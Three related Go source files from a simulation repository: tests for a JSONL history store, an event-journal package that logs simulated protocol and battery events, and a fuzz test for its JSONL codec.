	if err := Append(path, r1); err != nil {
		t.Fatal(err)
	}
	if err := Append(path, r2); err != nil {
		t.Fatal(err)
	}
	got, skipped, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || skipped != 0 {
		t.Fatalf("loaded %d records (%d skipped), want 2 (0 skipped)", len(got), skipped)
	}
	if got[0].Source != "benchreg" || got[0].Headline["RC4_ns_per_op"] != 12.5 {
		t.Fatalf("record 0 = %+v", got[0])
	}
	if got[1].Seed != "fig4" || got[1].LayerEnergyUJ["core.BatteryFigure"] != 26_000_000_000 {
		t.Fatalf("record 1 = %+v", got[1])
	}
}

func TestLoadMissingFileIsEmpty(t *testing.T) {
	got, skipped, err := Load(filepath.Join(t.TempDir(), "nope.jsonl"))
	if err != nil || got != nil || skipped != 0 {
		t.Fatalf("Load(missing) = %v, %d, %v; want nil, 0, nil", got, skipped, err)
	}
}

func TestLoadSkipsMalformedLines(t *testing.T) {
	path := filepath.Join(t.TempDir(), "history.jsonl")
	blob := `{"date":"2026-08-06","source":"benchreg"}
this line is not JSON
{"date":"","source":"benchreg"}
{"commit":"abc1234"}
` + "\n" + `{"date":"2026-08-07","source":"msreport"}
`
	if err := os.WriteFile(path, []byte(blob), 0o644); err != nil {
		t.Fatal(err)
	}
	got, skipped, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].Source != "benchreg" || got[1].Source != "msreport" {
		t.Fatalf("loaded %+v, want the two valid records", got)
	}
	// One unparseable line plus two records failing validation (empty
	// date, missing source); the blank line is not counted.
	if skipped != 3 {
		t.Fatalf("skipped = %d, want 3", skipped)
	}
}

func TestAppendUniqueRefusesDuplicates(t *testing.T) {
	path := filepath.Join(t.TempDir(), "history.jsonl")
	r := Record{
		Date: "2026-08-06", Source: "msreport", Commit: "abc1234",
		Fingerprint: Fingerprint("fig4"),
	}
	if err := AppendUnique(path, r); err != nil {
		t.Fatalf("first append: %v", err)
	}
	err := AppendUnique(path, r)
	if !errors.Is(err, ErrDuplicate) {
		t.Fatalf("second append err = %v, want ErrDuplicate", err)
	}
	// Same commit, different configuration: allowed.
	r2 := r
	r2.Fingerprint = Fingerprint("fig7")
	if err := AppendUnique(path, r2); err != nil {
		t.Fatalf("distinct-config append: %v", err)
	}
	// Unknown commit (outside a git checkout): dedup disabled.
	r3 := Record{Date: "2026-08-06", Source: "msreport", Commit: "unknown"}
	if err := AppendUnique(path, r3); err != nil {
		t.Fatalf("unknown-commit append 1: %v", err)
	}
	if err := AppendUnique(path, r3); err != nil {
		t.Fatalf("unknown-commit append 2: %v", err)
	}
	got, _, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 4 {
		t.Fatalf("history has %d records, want 4", len(got))
	}
}

func TestFingerprintStableAndDistinct(t *testing.T) {
	a := Fingerprint("x", "y")
	if a != Fingerprint("x", "y") {
		t.Fatal("fingerprint not deterministic")
	}
	if len(a) != 12 {
		t.Fatalf("fingerprint length = %d, want 12 hex chars", len(a))
	}
	if a == Fingerprint("xy") || a == Fingerprint("x", "y", "") {
		t.Fatal("separator-free collision: distinct part lists share a fingerprint")
	}
}

func TestCommitNeverEmpty(t *testing.T) {
	if Commit() == "" {
		t.Fatal("Commit() returned empty string; want hash or \"unknown\"")
	}
}

func TestTodayFormat(t *testing.T) {
	d := Today()
	if len(d) != 10 || d[4] != '-' || d[7] != '-' {
		t.Fatalf("Today() = %q, want YYYY-MM-DD", d)
	}
}
