// Package journal is the repository's structured event log: the *live*
// counterpart of the metrics registry. Where a metric snapshot says how
// often something happened, the journal says *when and with what* — one
// record per security-relevant event (a WTLS alert, a WEP ICV failure,
// an ARQ link-down, a battery milestone, a fired SLO rule), with a fixed
// schema {t_sim, level, layer, event, kv...} serialized as JSONL.
//
// Design constraints, matching the rest of internal/obs:
//
//  1. Disarmed must be almost free. Emit on a disarmed journal is one
//     atomic load and a branch — no allocation, no lock, no clock —
//     enforced by test and benchmark. Figure outputs are unaffected
//     unless a cmd opts in with -journal.
//  2. Armed must be deterministic. Events carry t_sim, a figure-defined
//     model-step marker (grid-cell index, BER-point index, transaction
//     count...), not a wall clock. Events land in lock-striped buffers
//     and are merged into (t_sim, seq) order at export, where seq is a
//     process-global emission counter that is never serialized. Within
//     one goroutine seq is monotonic, and parallel sweep tasks tag their
//     events with distinct t_sim values, so the merged JSONL is
//     byte-identical at any -workers count for a deterministic workload.
//  3. No dependencies beyond the standard library; the decoder accepts
//     exactly what the encoder produces (fuzz-enforced round trip).
//
// t_sim values < 0 mean "end of run" (SLO summary events) and sort after
// every nonnegative model step.
package journal

import (
	"fmt"
	"io"
	"os"
	"sort"
	"sync"
	"sync/atomic"
)

// Level is the journal's severity ladder.
type Level uint8

const (
	LevelDebug Level = iota
	LevelInfo
	LevelWarn
	LevelCrit
)

// String returns the serialized level name.
func (l Level) String() string {
	switch l {
	case LevelDebug:
		return "debug"
	case LevelInfo:
		return "info"
	case LevelWarn:
		return "warn"
	case LevelCrit:
		return "crit"
	}
	return fmt.Sprintf("level(%d)", uint8(l))
}

// ParseLevel parses a serialized level name.
func ParseLevel(s string) (Level, error) {
	switch s {
	case "debug":
		return LevelDebug, nil
	case "info":
		return LevelInfo, nil
	case "warn":
		return LevelWarn, nil
	case "crit":
		return LevelCrit, nil
	}
	return 0, fmt.Errorf("journal: unknown level %q", s)
}

// Field kinds.
const (
	kindString = iota
	kindInt
	kindFloat
	kindBool
)

// Field is one key-value pair of an event. Construct with S/I/F/B;
// fields are plain values so building them never allocates.
type Field struct {
	K    string
	kind uint8
	s    string
	i    int64
	f    float64
}

// S is a string field.
func S(k, v string) Field { return Field{K: k, kind: kindString, s: v} }

// I is an int64 field.
func I(k string, v int64) Field { return Field{K: k, kind: kindInt, i: v} }

// F is a float64 field. Non-finite values serialize as strings ("NaN",
// "+Inf", "-Inf") since JSON has no representation for them.
func F(k string, v float64) Field { return Field{K: k, kind: kindFloat, f: v} }

// B is a bool field.
func B(k string, v bool) Field {
	f := Field{K: k, kind: kindBool}
	if v {
		f.i = 1
	}
	return f
}

// Event is one journal record.
type Event struct {
	TSim   int64
	Level  Level
	Layer  string
	Name   string
	Fields []Field

	seq uint64 // process-global emission order; merge tiebreak, never serialized
}

// nStripes is the lock stripe count: enough that sweep workers rarely
// contend, small enough that merging stays cheap.
const nStripes = 16

type stripe struct {
	mu     sync.Mutex
	events []Event
}

// Journal is a bounded, leveled, structured event log. The zero value is
// not usable; create with New. A nil *Journal ignores everything.
type Journal struct {
	armed   atomic.Bool
	min     atomic.Int32
	seq     atomic.Uint64
	count   atomic.Int64 // events currently buffered (approximate gate)
	dropped atomic.Int64
	cap     int64

	stripes [nStripes]stripe

	subMu  sync.Mutex
	subSeq int
	subs   map[int]chan Event
	nsubs  atomic.Int32
}

// DefaultCapacity bounds the default journal's buffer; past it new
// events are dropped (newest-lose) and counted.
const DefaultCapacity = 1 << 18

// New creates a disarmed journal holding at most capacity events
// (minimum 64).
func New(capacity int) *Journal {
	if capacity < 64 {
		capacity = 64
	}
	j := &Journal{cap: int64(capacity)}
	j.min.Store(int32(LevelInfo))
	return j
}

// SetEnabled arms or disarms the journal.
func (j *Journal) SetEnabled(on bool) {
	if j != nil {
		j.armed.Store(on)
	}
}

// SetMinLevel sets the minimum level recorded (default LevelInfo).
func (j *Journal) SetMinLevel(lv Level) {
	if j != nil {
		j.min.Store(int32(lv))
	}
}

// Enabled reports whether the journal is armed.
func (j *Journal) Enabled() bool { return j != nil && j.armed.Load() }

// On reports whether an event at level lv would be recorded — the fast
// gate instrumented layers use before assembling expensive fields.
func (j *Journal) On(lv Level) bool {
	return j != nil && j.armed.Load() && int32(lv) >= j.min.Load()
}

// Emit records one event when the journal is armed and lv clears the
// minimum level. tSim is the model-step marker (see package doc); fields
// are copied, so the caller's slice (usually a stack-allocated variadic)
// is not retained. Safe on a nil journal.
func (j *Journal) Emit(tSim int64, lv Level, layer, event string, fields ...Field) {
	if j == nil || !j.armed.Load() {
		return
	}
	if int32(lv) < j.min.Load() {
		return
	}
	if j.count.Load() >= j.cap {
		j.dropped.Add(1)
		return
	}
	e := Event{TSim: tSim, Level: lv, Layer: layer, Name: event, seq: j.seq.Add(1)}
	if len(fields) > 0 {
		e.Fields = make([]Field, len(fields))
		copy(e.Fields, fields)
	}
	j.count.Add(1)
	s := &j.stripes[e.seq%nStripes]
	s.mu.Lock()
	s.events = append(s.events, e)
	s.mu.Unlock()
	if j.nsubs.Load() > 0 {
		j.fanout(e)
	}
}

// fanout delivers e to every subscriber without blocking: a slow
// consumer loses events rather than stalling the instrumented layer.
func (j *Journal) fanout(e Event) {
	j.subMu.Lock()
	for _, ch := range j.subs {
		select {
		case ch <- e:
		default:
		}
	}
	j.subMu.Unlock()
}

// Subscribe registers a live event consumer (for the /events SSE
// endpoint). Events arrive in emission order, which is wall-clock order,
// not the deterministic merge order of Events. The returned cancel
// function closes the channel and must be called exactly once.
func (j *Journal) Subscribe(buf int) (<-chan Event, func()) {
	if buf < 1 {
		buf = 64
	}
	ch := make(chan Event, buf)
	j.subMu.Lock()
	if j.subs == nil {
		j.subs = make(map[int]chan Event)
	}
	id := j.subSeq
	j.subSeq++
	j.subs[id] = ch
	j.nsubs.Store(int32(len(j.subs)))
	j.subMu.Unlock()
	cancel := func() {
		j.subMu.Lock()
		if _, ok := j.subs[id]; ok {
			delete(j.subs, id)
			close(ch)
		}
		j.nsubs.Store(int32(len(j.subs)))
		j.subMu.Unlock()
	}
	return ch, cancel
}

// Dropped reports how many events the capacity bound discarded.
func (j *Journal) Dropped() int64 {
	if j == nil {
		return 0
	}
	return j.dropped.Load()
}

// Len reports how many events are buffered.
func (j *Journal) Len() int {
	if j == nil {
		return 0
	}
	return int(j.count.Load())
}

// Events returns the buffered events merged into deterministic order:
// ascending (t_sim, seq), with negative t_sim (end-of-run records)
// sorted after every nonnegative model step.
func (j *Journal) Events() []Event {
	if j == nil {
		return nil
	}
	var out []Event
	for i := range j.stripes {
		s := &j.stripes[i]
		s.mu.Lock()
		out = append(out, s.events...)
		s.mu.Unlock()
	}
	sort.Slice(out, func(a, b int) bool {
		ta, tb := sortKey(out[a].TSim), sortKey(out[b].TSim)
		if ta != tb {
			return ta < tb
		}
		return out[a].seq < out[b].seq
	})
	return out
}

// sortKey maps negative t_sim ("end of run") past every real model step.
func sortKey(t int64) uint64 {
	if t < 0 {
		return uint64(1<<63) + uint64(-(t + 1))
	}
	return uint64(t)
}

// Reset discards all buffered events and resets the emission counter.
// It is a test and tooling hook; instrumented layers never call it.
func (j *Journal) Reset() {
	if j == nil {
		return
	}
	for i := range j.stripes {
		s := &j.stripes[i]
		s.mu.Lock()
		s.events = nil
		s.mu.Unlock()
	}
	j.count.Store(0)
	j.dropped.Store(0)
	j.seq.Store(0)
}

// WriteJSONL writes the merged events as JSONL (one event per line).
func (j *Journal) WriteJSONL(w io.Writer) error {
	var buf []byte
	for _, e := range j.Events() {
		buf = AppendJSON(buf[:0], e)
		buf = append(buf, '\n')
		if _, err := w.Write(buf); err != nil {
			return err
		}
	}
	return nil
}

// WriteFile writes the merged events to path as JSONL.
func (j *Journal) WriteFile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("journal: %w", err)
	}
	if err := j.WriteJSONL(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// Default is the process-wide journal the instrumented layers emit to.
// It exists from process start but stays disarmed until a cmd opts in
// with -journal, so hot paths pay only the armed-flag check.
var Default = New(DefaultCapacity)

// On reports whether the default journal records level lv.
func On(lv Level) bool { return Default.On(lv) }

// Emit records one event on the default journal.
func Emit(tSim int64, lv Level, layer, event string, fields ...Field) {
	Default.Emit(tSim, lv, layer, event, fields...)
}

// TEnd is the conventional t_sim for end-of-run records: negative model
// time sorts after every real model step.
const TEnd int64 = -1
