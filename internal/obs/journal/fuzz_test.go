package journal

import (
	"bytes"
	"math"
	"testing"
)

// FuzzJSONLRoundTrip checks both directions of the JSONL codec:
// events built from arbitrary primitives survive encode→parse→encode
// with stable canonical bytes, and arbitrary input lines either fail to
// parse or themselves re-encode canonically. This is the fuzz target the
// CI smoke job picks up.
func FuzzJSONLRoundTrip(f *testing.F) {
	f.Add(int64(0), uint8(1), "core", "row", "mode", "unencrypted", int64(1234), 0.5, true)
	f.Add(int64(-1), uint8(3), "slo", "slo_fired", "rule", `battery "gap"`, int64(-7), math.MaxFloat64, false)
	f.Add(int64(53), uint8(0), "par", "task_start", "k\n", "\x00\xff", int64(9), math.Inf(1), true)
	f.Fuzz(func(t *testing.T, tSim int64, lvRaw uint8, layer, name, k, sv string, iv int64, fv float64, bv bool) {
		e := Event{
			TSim:  tSim,
			Level: Level(lvRaw % 4),
			Layer: layer,
			Name:  name,
			Fields: []Field{
				S(k, sv), I(k+"_i", iv), F(k+"_f", fv), B(k+"_b", bv),
			},
		}
		line1 := AppendJSON(nil, e)
		got, err := ParseLine(line1)
		if err != nil {
			t.Fatalf("encoder output rejected by ParseLine: %v\nline: %s", err, line1)
		}
		line2 := AppendJSON(nil, got)
		got2, err := ParseLine(line2)
		if err != nil {
			t.Fatalf("re-encoded output rejected: %v\nline: %s", err, line2)
		}
		line3 := AppendJSON(nil, got2)
		if !bytes.Equal(line2, line3) {
			t.Fatalf("canonical encoding unstable:\n%s\n%s", line2, line3)
		}
		if got.TSim != tSim || got.Level != Level(lvRaw%4) {
			t.Fatalf("header mutated: %+v", got)
		}

		// Second direction: treat the raw string input as a candidate line.
		if ev, err := ParseLine([]byte(sv)); err == nil {
			a := AppendJSON(nil, ev)
			ev2, err := ParseLine(a)
			if err != nil {
				t.Fatalf("canonical re-encode of parsed input rejected: %v\nline: %s", err, a)
			}
			b := AppendJSON(nil, ev2)
			if !bytes.Equal(a, b) {
				t.Fatalf("parsed-input encoding unstable:\n%s\n%s", a, b)
			}
		}
	})
}
